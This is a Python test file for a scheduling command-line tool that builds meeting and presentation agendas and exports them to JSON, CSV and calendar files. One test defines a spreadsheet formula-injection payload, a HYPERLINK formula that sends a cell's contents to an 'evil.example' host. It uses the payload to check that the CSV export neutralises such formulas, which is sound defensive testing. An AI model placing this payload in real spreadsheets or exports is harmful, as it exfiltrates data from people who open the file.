"""``kbridge-schedule`` end to end on files."""

from __future__ import annotations

import csv
import io
import json

from kbridge.engine.scheduling.cli import main


def test_generate_schedule_export_and_rerun(tmp_path, capsys):
    assert (
        main(
            [
                "generate",
                "meetings",
                "--participants",
                "20",
                "--meetings",
                "30",
                "--slots",
                "6",
                "--tables",
                "3",
                "--seed",
                "3",
            ]
        )
        == 0
    )
    instance = tmp_path / "event.json"
    instance.write_text(capsys.readouterr().out)
    out, csv, ics = tmp_path / "s.json", tmp_path / "a.csv", tmp_path / "ics"
    assert (
        main(
            [
                "meetings",
                str(instance),
                "--out",
                str(out),
                "--csv",
                str(csv),
                "--ics-dir",
                str(ics),
                "--time-limit",
                "10",
                "--workers",
                "1",
            ]
        )
        == 0
    )
    result = json.loads(out.read_text())
    assert result["gap"] == 0.0
    assert result["placed"] == len(result["placements"])
    assert [e["meeting_id"] for e in result["explanations"]] == result["unplaced"]
    assert result["placements"][0]["start"].endswith("+09:00")
    assert len(list(ics.glob("*.ics"))) == 20
    assert csv.read_bytes().startswith(
        b'\xef\xbb\xbf"owner","item","start","end","place","with","title"\r\n'
    )

    rerun = tmp_path / "r.json"
    assert (
        main(
            [
                "meetings",
                str(instance),
                "--previous",
                str(out),
                "--out",
                str(rerun),
                "--time-limit",
                "10",
                "--workers",
                "1",
            ]
        )
        == 0
    )
    changes = json.loads(rerun.read_text())["changes"]
    assert (changes["moved"], changes["added"], changes["cancelled"]) == ([], [], [])


def test_presentations(tmp_path, capsys):
    assert (
        main(
            [
                "generate",
                "presentations",
                "--startups",
                "6",
                "--panels",
                "2",
                "--members-per-panel",
                "2",
                "--rooms",
                "2",
                "--seed",
                "1",
            ]
        )
        == 0
    )
    instance = tmp_path / "day.json"
    instance.write_text(capsys.readouterr().out)
    out = tmp_path / "day-out.json"
    assert (
        main(
            [
                "presentations",
                str(instance),
                "--out",
                str(out),
                "--csv",
                str(tmp_path / "day.csv"),
                "--time-limit",
                "10",
                "--workers",
                "1",
            ]
        )
        == 0
    )
    result = json.loads(out.read_text())
    assert len(result["pitches"]) >= 6
    assert {b["room_id"] for b in result["panels"]} == {"room0", "room1"}


def test_inconsistent_instance_exits_with_1(tmp_path, capsys):
    bad = tmp_path / "bad.json"
    bad.write_text(
        json.dumps(
            {
                "n_slots": 2,
                "participants": [{"id": "a"}],
                "tables": [{"id": "t"}],
                "meetings": [{"id": "m", "participants": ["a", "ghost"]}],
            }
        )
    )
    assert main(["meetings", str(bad)]) == 1
    assert "unknown participant 'ghost'" in capsys.readouterr().err


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def test_csv_agenda_neutralises_formulas_and_opens_in_excel(tmp_path):
    """Issue 10, item 1: a participant named like a formula is text in the agenda CSV, which is
    UTF-8 with a byte-order mark and CRLF line endings so Excel reads Korean correctly."""
    instance = tmp_path / "event.json"
    instance.write_text(json.dumps({
        "n_slots": 2, "start": "2026-06-10T09:00:00", "slot_minutes": 30,
        "participants": [{"id": "s1", "name": HYPERLINK}, {"id": "p1", "name": "뉴로칩스"}],
        "meetings": [{"id": "m1", "participants": ["s1", "p1"]}],
        "tables": [{"id": "t1", "name": "+82 2 1234"}],
    }), encoding="utf-8")
    out = tmp_path / "agendas.csv"
    assert main(["meetings", str(instance), "--csv", str(out), "--out", str(tmp_path / "s.json"),
                 "--time-limit", "10", "--workers", "1"]) == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\r\n") == 3
    assert b"\n" not in data.replace(b"\r\n", b"")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    by_owner = {row[0]: row for row in rows[1:]}
    assert by_owner["p1"][4:6] == ["'+82 2 1234", "'" + HYPERLINK]
    assert by_owner["s1"][5:] == ["뉴로칩스", "1:1 meeting with 뉴로칩스"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
